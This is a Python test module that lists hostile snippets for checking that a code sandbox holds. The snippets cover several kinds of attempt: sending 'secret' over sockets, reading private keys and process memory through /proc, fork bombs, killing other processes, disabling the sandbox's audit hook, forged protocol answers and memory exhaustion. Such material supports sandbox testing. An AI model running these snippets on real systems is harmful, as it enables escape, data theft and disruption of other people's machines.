"""Modules that mean harm: each tries one thing that code under `nanlint confirm` must not be able to do.

A body is a function that returns true if it got what it wanted; what can be seen from outside, `tests.hostile_world` looks
at. Every attempt is bounded, so that it can be tried with a wall left out.
"""

from __future__ import annotations

import textwrap
from dataclasses import dataclass

TOOLS = """
import ctypes, errno, gc, mmap, os, platform, signal, socket, struct, sys, threading, time

WORLD = {world!r}
OUTSIDE, VICTIM = WORLD["outside"], WORLD["victim"]
CANARY = OUTSIDE + "/canary.txt"
lib = ctypes.CDLL(None, use_errno=True)
is_arm = platform.machine() == "aarch64"


def call(name, *arguments):
    numbers = {{"io_uring_setup": (425, 425), "add_key": (248, 217), "keyctl": (250, 219), "pidfd_open": (434, 434), "tgkill": (234, 131),
        "pidfd_send_signal": (424, 424), "memfd_create": (319, 279), "memfd_secret": (447, 447), "bpf": (321, 280), "userfaultfd": (323, 282), "perf_event_open": (298, 241),
        "process_vm_readv": (310, 270), "mount_setattr": (442, 442), "fchmodat2": (452, 452)}}
    ctypes.set_errno(0)
    return lib.syscall(numbers[name][is_arm], *arguments)


def internet(port):
    return struct.pack("=HH4s8x", 2, socket.htons(port), bytes([127, 0, 0, 1]))


def unix(path):
    return struct.pack("=H", 1) + path.encode() + b"\\0"


def own_pipes():
    return [int(name) for name in os.listdir("/proc/self/fd") if int(name) > 2]


def send_to_all(data):
    for number in own_pipes():
        try:
            os.write(number, data)
        except OSError:
            pass
"""


@dataclass(frozen=True, slots=True)
class Hostile:
    """One module, and what is told of it if it ends without an answer."""

    name: str
    body: str
    reason: str = ""
    timeout: float = 60.0
    at_import: bool = False
    """It does not wait to be called."""
    depends: bool = False
    """Whether it succeeds without a wall depends on how the machine is set up."""

    def text(self, world: dict[str, object]) -> str:
        """The module, as it is written to the disk."""
        body = textwrap.indent(textwrap.dedent(self.body).strip(), "    ")
        wanted = "RESULT = attack()\n\n\ndef is_finite():\n    return bool(RESULT)\n"
        called = "def is_finite():\n    return bool(attack())\n"
        return f"{TOOLS.format(world=world)}\n\ndef attack():\n{body}\n\n\n{wanted if self.at_import else called}"


NETWORK = (
    Hostile(
        "a packet by UDP, through ctypes",
        """
        sock = lib.socket(2, 2, 0)
        lib.sendto(sock, b"secret", 6, 0, internet(WORLD["udp"]), 16)
        """,
    ),
    Hostile(
        "a packet by UDP",
        'socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secret", ("127.0.0.1", WORLD["udp"]))',
    ),
    Hostile(
        "a packet by UDP when it is imported",
        'lib.sendto(lib.socket(2, 2, 0), b"secret", 6, 0, internet(WORLD["udp"]), 16)',
        at_import=True,
    ),
    Hostile("a connection by TCP, through ctypes", 'lib.connect(lib.socket(2, 1, 0), internet(WORLD["tcp"]), 16)'),
    Hostile("a connection by TCP", 'socket.create_connection(("127.0.0.1", WORLD["tcp"]), 1).send(b"secret")'),
    Hostile(
        "an address that is fetched",
        "import urllib.request; urllib.request.urlopen(f\"http://127.0.0.1:{WORLD['tcp']}\", timeout=1)",
    ),
    Hostile(
        "a Unix socket, through ctypes",
        """
        address = unix(WORLD["unix"])
        lib.sendto(lib.socket(1, 2, 0), b"secret", 6, 0, address, len(address))
        """,
    ),
    Hostile("a Unix socket", 'socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b"secret", WORLD["unix"])'),
    Hostile(
        "an abstract Unix socket",
        """
        address = struct.pack("=H", 1) + b"\\0" + WORLD["mark"].encode()
        lib.sendto(lib.socket(1, 2, 0), b"secret", 6, 0, address, len(address))
        """,
    ),
    Hostile(
        "a pair of sockets that sends elsewhere",
        """
        pair = (ctypes.c_int * 2)()
        address = unix(WORLD["unix"])
        lib.socketpair(1, 2, 0, pair)
        lib.sendto(pair[0], b"secret", 6, 0, address, len(address))
        """,
    ),
    Hostile(
        "a pair of sockets that is connected elsewhere",
        """
        pair = (ctypes.c_int * 2)()
        address = unix(WORLD["unix"])
        lib.socketpair(1, 2, 0, pair)
        lib.connect(pair[0], address, len(address))
        lib.send(pair[0], b"secret", 6, 0)
        """,
    ),
)

FILES = (
    Hostile("a file written outside", 'open(OUTSIDE + "/new", "w").write("x")'),
    Hostile("a file written outside, through ctypes", 'lib.open((OUTSIDE + "/new").encode(), 0o101, 0o600)'),
    Hostile(
        "a file written outside when it is imported",
        'lib.open((OUTSIDE + "/new").encode(), 0o101, 0o600)',
        at_import=True,
    ),
    Hostile("a file removed", "lib.unlink(CANARY.encode())"),
    Hostile("a file moved", 'lib.rename(CANARY.encode(), (OUTSIDE + "/moved").encode())'),
    Hostile("a file cut short", "lib.truncate(CANARY.encode(), 0)"),
    Hostile("a mode changed", "lib.chmod(CANARY.encode(), 0o777)"),
    Hostile("a mode changed through Python", "os.chmod(CANARY, 0o777)"),
    Hostile("a mode changed through a descriptor", "lib.fchmod(lib.open(CANARY.encode(), 0), 0o777)"),
    Hostile("a mode changed by the newest call", 'call("fchmodat2", -100, CANARY.encode(), 0o777, 0)'),
    Hostile("an owner changed", "lib.chown(CANARY.encode(), 1, 1)"),
    Hostile("a time changed", "lib.utimes(CANARY.encode(), (ctypes.c_long * 4)(1, 0, 1, 0))"),
    Hostile("an attribute changed", 'lib.setxattr(CANARY.encode(), b"user.note", b"x", 1, 0)'),
    Hostile(
        "a link to a file outside, written through",
        """
        lib.symlink(CANARY.encode(), b"link")
        lib.write(lib.open(b"link", 1), b"changed", 7)
        """,
    ),
    Hostile(
        "a hard link to a file outside, written through",
        """
        lib.link(CANARY.encode(), b"link")
        lib.write(lib.open(b"link", 1), b"changed", 7)
        """,
    ),
    Hostile(
        "a folder moved out of the scratch folder", 'os.mkdir("own"); lib.rename(b"own", (OUTSIDE + "/own").encode())'
    ),
    Hostile(
        "a file written through /proc/self/root",
        'lib.open(("/proc/self/root" + OUTSIDE + "/new").encode(), 0o101, 0o600)',
    ),
    Hostile("a database outside", 'import sqlite3; sqlite3.connect(OUTSIDE + "/new.db").execute("create table t (x)")'),
    Hostile("a checkpoint outside, written in C++", 'import torch; torch._C.PyTorchFileWriter(OUTSIDE + "/new.pt")'),
    Hostile("a private key read", 'return "SECRET" in open(WORLD["key"]).read()'),
    Hostile(
        "a private key read through a link",
        """
        lib.symlink(WORLD["key"].encode(), b"key")
        return "SECRET" in open("key").read()
        """,
    ),
    Hostile(
        "a private key read through the first process",
        'return "SECRET" in open("/proc/1/root" + WORLD["key"]).read()',
    ),
    Hostile(
        "a file written through the first process",
        'lib.open(("/proc/1/root" + OUTSIDE + "/new").encode(), 0o101, 0o600)',
    ),
    Hostile(
        "a file that others are kept from",
        "number = lib.open(CANARY.encode(), 0); return lib.fcntl(number, 1024, 0) == 0",
    ),
    Hostile("a token in the environment", 'return "SECRET" in str(os.environ) + open("/proc/self/environ").read()'),
    Hostile("the environment of another process", 'return b"=" in open(f"/proc/{VICTIM}/environ", "rb").read()'),
    Hostile("the memory of another process", 'return lib.open(f"/proc/{VICTIM}/mem".encode(), 2) >= 0'),
    Hostile(
        "a disk read past its files",
        """
        import stat
        disks = [path for path in map("/dev/".__add__, os.listdir("/dev")) if stat.S_ISBLK(os.stat(path).st_mode)]
        return any(lib.open(path.encode(), 0) >= 0 for path in disks)
        """,
    ),
    Hostile("a line on the user's terminal", 'lib.write(lib.open(WORLD["terminal"].encode(), 1), b"secret", 6)'),
    Hostile("a setting of the kernel", 'return lib.open(b"/proc/sys/kernel/core_pattern", 1) >= 0'),
    Hostile("a setting of a driver", 'return lib.open(b"/sys/kernel/mm/transparent_hugepage/enabled", 1) >= 0'),
    Hostile(
        "a disk that is filled",
        """
        for number in range(10):
            with open(f"part-{number}", "wb") as file:
                file.write(bytes(32 << 20))
        return True
        """,
    ),
    Hostile(
        "shared memory that is left behind",
        "lib.open(f\"/dev/shm/{WORLD['mark']}\".encode(), 0o102, 0o600)",
    ),
    Hostile("a System V segment that is left behind", 'lib.shmget(WORLD["number"], 4096, 0o1600)'),
    Hostile(
        "folders in each other without end",
        """
        for _ in range(1500):
            lib.mkdir(b"down", 0o700)
            lib.chdir(b"down")
        """,
    ),
    Hostile("a folder that nobody may enter", 'os.makedirs("closed/inner"); os.mkdir("closed/shut", 0)'),
)

PROCESSES = (
    Hostile(
        "a fork bomb",
        """
        for _ in range(5):
            lib.fork()
        """,
    ),
    Hostile(
        "a process that outlives the job",
        """
        if lib.fork() == 0:
            lib.setsid()
            if lib.fork() == 0:
                time.sleep(60)
            os._exit(0)
        """,
    ),
    Hostile(
        "a process that keeps the pipe of the answer",
        """
        if lib.fork() == 0:
            lib.setsid()
            send_to_all(b"not the answer\\n")
            time.sleep(60)
        """,
        timeout=2.0,
    ),
    Hostile("a shell command", 'os.system("touch " + OUTSIDE + "/new")'),
    Hostile("a shell command, through ctypes", 'lib.system(("touch " + OUTSIDE + "/new").encode())'),
    Hostile(
        "another program in its own place",
        """
        words = (ctypes.c_char_p * 3)(b"touch", (OUTSIDE + "/new").encode(), None)
        lib.execv(b"/usr/bin/touch", words)
        """,
    ),
    Hostile(
        "a program in memory",
        """
        number = os.memfd_create("program", 0)
        os.write(number, ("#!/bin/sh\\ntouch " + OUTSIDE + "/new\\n").encode())
        lib.fexecve(number, (ctypes.c_char_p * 2)(b"program", None), (ctypes.c_char_p * 1)(None))
        """,
    ),
    Hostile(
        "a spawned interpreter", 'import multiprocessing as mp; mp.get_context("spawn").Process(target=print).start()'
    ),
    Hostile("the end of another process", "lib.kill(VICTIM, 9)"),
    Hostile("the end of another process, by a signal to a thread", 'call("tgkill", VICTIM, VICTIM, 9)'),
    Hostile(
        "the end of another process, by its descriptor",
        'call("pidfd_send_signal", call("pidfd_open", VICTIM, 0), 9, None, 0)',
    ),
    Hostile(
        "the end of another process, by a signal when there is something to read",
        """
        pair = (ctypes.c_int * 2)()
        lib.socketpair(1, 1, 0, pair)
        lib.fcntl(pair[0], 8, VICTIM)
        lib.fcntl(pair[0], 10, 9)
        lib.fcntl(pair[0], 4, 0o20000)
        lib.write(pair[1], b"x", 1)
        time.sleep(0.2)
        """,
    ),
    Hostile(
        "the end of another process, by the owner of a socket",
        """
        pair = (ctypes.c_int * 2)()
        lib.socketpair(1, 1, 0, pair)
        lib.ioctl(pair[0], 0x8901, ctypes.byref(ctypes.c_int(VICTIM)))
        lib.fcntl(pair[0], 10, 9)
        lib.fcntl(pair[0], 4, 0o20000)
        lib.write(pair[1], b"x", 1)
        time.sleep(0.2)
        """,
    ),
    Hostile("the end of the server", "lib.kill(lib.getppid(), 9)"),
    Hostile("a debugger on another process", "return lib.ptrace(16, VICTIM, None, None) == 0"),
    Hostile(
        "the memory of another process, copied",
        """
        buffer = ctypes.create_string_buffer(8)
        here, there = struct.pack("=QQ", ctypes.addressof(buffer), 8), struct.pack("=QQ", 0, 8)
        call("process_vm_readv", VICTIM, here, 1, there, 1, 0)
        return ctypes.get_errno() not in (errno.EPERM, errno.ESRCH, errno.ENOSYS)
        """,
    ),
    Hostile("limits of another process", "return lib.prlimit(VICTIM, 7, (ctypes.c_long * 2)(16, 16), None) == 0"),
    Hostile(
        "threads without end",
        """
        for _ in range(2000):
            threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
        return True
        """,
    ),
)

KERNEL = (
    Hostile("io_uring, which a filter does not see", 'return call("io_uring_setup", 8, bytes(120)) >= 0', depends=True),
    Hostile(
        "a key in the user's keyring",
        """
        key = call("add_key", b"user", b"nanlint", b"x", 1, -4)
        call("keyctl", 9, key, -4)
        return key > 0
        """,
    ),
    Hostile(
        "a program in the kernel",
        'return call("bpf", 0, struct.pack("=IIII", 1, 4, 4, 1) + bytes(112), 128) >= 0',
        depends=True,
    ),
    Hostile("page faults of its own", 'return call("userfaultfd", 1) >= 0', depends=True),
    Hostile(
        "counters of the processor",
        'return call("perf_event_open", struct.pack("=IIQ", 1, 112, 0) + bytes(96), 0, -1, -1, 0) >= 0',
        depends=True,
    ),
    Hostile("a user namespace of its own", "return lib.unshare(0x10000000) == 0", depends=True),
    Hostile("a mount", 'return lib.mount(b"x", OUTSIDE.encode(), b"tmpfs", 0, None) == 0'),
    Hostile(
        "a mount that may be written again",
        'return call("mount_setattr", -100, b"/", 0x8000, struct.pack("=QQQQ", 0, 1, 0, 0), 32) == 0',
    ),
    Hostile("another name for the machine", 'lib.sethostname(b"hostile", 7)'),
    Hostile(
        "system calls in the manner of 32 bit",
        """
        if is_arm:
            return False
        place = mmap.mmap(-1, 4096, prot=7)
        place.write(b"\\xb8\\x14\\x00\\x00\\x00\\xcd\\x80\\xc3")
        address = ctypes.addressof(ctypes.c_char.from_buffer(place))
        return ctypes.CFUNCTYPE(ctypes.c_int)(address)() > 0
        """,
        reason="the process died of SIG",
        depends=True,
    ),
)

GUARD = (
    Hostile(
        "the audit hook switched off through frames and gc",
        """
        frame = sys._getframe()
        while frame:
            for value in [*frame.f_locals.values(), *frame.f_globals.values()]:
                if hasattr(value, "active"):
                    value.active = False
            frame = frame.f_back
        from nanlint.confirm.worker.walls import audit_hook
        audit_hook._NEVER.clear()
        audit_hook._CHANGES.clear()
        audit_hook._changes = lambda *_: ()
        open(OUTSIDE + "/new", "w").write("x")
        """,
    ),
    Hostile(
        "the audit hook given other code",
        """
        for thing in gc.get_objects():
            if getattr(thing, "__qualname__", "") == "watch.<locals>.is_inside":
                for cell in thing.__closure__:
                    if isinstance(cell.cell_contents, str) and cell.cell_contents != os.sep:
                        cell.cell_contents = ""
        open(OUTSIDE + "/new", "w").write("x")
        """,
    ),
    Hostile(
        "os.path put in the way of the audit hook",
        """
        os.path.realpath = lambda *_: os.getcwd()
        open(OUTSIDE + "/new", "w").write("x")
        """,
    ),
)

PROTOCOL = (
    Hostile("an answer that is no JSON", 'send_to_all(b"nonsense\\n")', "is not JSON"),
    Hostile("an answer that is a list", 'send_to_all(b"[1]\\n")', "is no answer"),
    Hostile("an answer that is too deep", 'send_to_all(b"[" * 60000 + b"\\n")', "is not JSON"),
    Hostile("an answer with a number too long", 'send_to_all(b"{\\"x\\": " + b"9" * 60000 + b"}\\n")', "is not JSON"),
    Hostile(
        "an answer without end",
        """
        while True:
            send_to_all(b"x" * 65536)
        """,
        "wrote more than 16 MB where its answer goes",
    ),
    Hostile("an answer to another job", 'send_to_all(b\'{"id": 1, "died": "forged"}\\n\')', "forged"),
    Hostile("other walls than there are", 'send_to_all(b\'{"walls": ["none"], "died": "forged"}\\n\')', "forged"),
    Hostile("half an answer, and no more", 'send_to_all(b"{"); os._exit(0)', "exit code 0"),
    Hostile(
        "no pipe for the answer",
        """
        for number in own_pipes():
            try:
                os.close(number)
            except OSError:
                pass
        while True:
            pass
        """,
        "closed the pipe for its answer and went on",
    ),
    Hostile("another json.dumps", "import json; json.dumps = lambda *_: 1 / 0", "exit code 1"),
    Hostile("a stdout that raises", "sys.stdout = type('S', (), {'flush': lambda self: 1 / 0})()", "exit code 1"),
)

ENDS = (
    Hostile("os._exit", "os._exit(3)", "ended the process by itself (exit code 3)"),
    Hostile("sys.exit", "sys.exit(4)", "ended the process by itself"),
    Hostile("an interrupt of its own", "raise KeyboardInterrupt", "ended the process by itself"),
    Hostile("a crash in native code", "ctypes.string_at(0)", "SIGSEGV: a crash in native code"),
    Hostile("a crash when it is imported", "ctypes.string_at(0)", "SIGSEGV: a crash in native code", at_import=True),
    Hostile("abort", "lib.abort()", "SIGABRT: native code gave up"),
    Hostile(
        "recursion without end", "sys.setrecursionlimit(10**9); (lambda f: f(f))(lambda f: [*map(f, [f])])", "SIGSEGV"
    ),
    Hostile(
        "a loop without end",
        """
        while True:
            pass
        """,
        "stopped after 0.5 s (--timeout)",
        timeout=0.5,
    ),
    Hostile(
        "a loop that takes no signal",
        """
        for number in set(signal.valid_signals()) - {signal.SIGKILL, signal.SIGSTOP}:
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        time.sleep(60)
        """,
        "stopped after 0.5 s (--timeout)",
        timeout=0.5,
    ),
    Hostile(
        "a process that stops itself", "lib.kill(lib.getpid(), 19)", "stopped after 0.5 s (--timeout)", timeout=0.5
    ),
    Hostile(
        "a lock that nobody opens",
        "lock = threading.Lock(); lock.acquire(); lock.acquire()",
        "stopped after 0.5 s",
        timeout=0.5,
    ),
    Hostile(
        "output without end",
        """
        for _ in range(100):
            os.write(1, bytes(1 << 20))
        return True
        """,
        "SIGXFSZ: it printed more than 64 MB",
    ),
    Hostile(
        "a file without end",
        """
        with open("large", "wb") as file:
            for _ in range(100):
                file.write(bytes(1 << 20))
        return True
        """,
        "SIGXFSZ",
    ),
    Hostile(
        "six gigabytes of memory", "mmap.mmap(-1, 6 << 30, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS); return True"
    ),
    Hostile("six gigabytes of shared memory", "mmap.mmap(-1, 6 << 30); return True"),
    Hostile(
        "six gigabytes of a stack that grows",
        "lib.mmap.restype = ctypes.c_long; return lib.mmap(None, ctypes.c_long(6 << 30), 3, 0x122, -1, ctypes.c_long(0)) != -1",
    ),
    Hostile(
        "memory in files without a name",
        """
        files = [call("memfd_create", b"x", 0) for _ in range(8)]
        return sum(os.write(number, bytes(60 << 20)) for number in files if number >= 0) > 0
        """,
    ),
    Hostile("memory that nobody else can see", 'return call("memfd_secret", 0) >= 0', depends=True),
    Hostile(
        "limits of its own, raised",
        """
        import resource
        resource.setrlimit(resource.RLIMIT_AS, (-1, -1))
        mmap.mmap(-1, 6 << 30)
        return True
        """,
    ),
    Hostile(
        "messages that nobody reads",
        """
        import resource
        most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
        resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
        sent, pairs = 0, []
        while sent < 512 << 20:
            pairs.append(socket.socketpair())
            for one in pairs[-1]:
                lib.setsockopt(one.fileno(), 1, 7, ctypes.byref(ctypes.c_int(1 << 30)), 4)
                one.setblocking(False)
                try:
                    while True:
                        sent += one.send(bytes(1 << 16))
                except BlockingIOError:
                    pass
        return True
        """,
    ),
    Hostile("a hundred gigabytes of memory, through torch", "import torch; torch.empty(25_000_000_000); return True"),
    Hostile(
        "an end that is put off",
        "import atexit; atexit.register(time.sleep, 60); threading.Thread(target=time.sleep, args=(60,)).start()",
    ),
)

HOSTILE = (*NETWORK, *FILES, *PROCESSES, *KERNEL, *GUARD, *PROTOCOL, *ENDS)
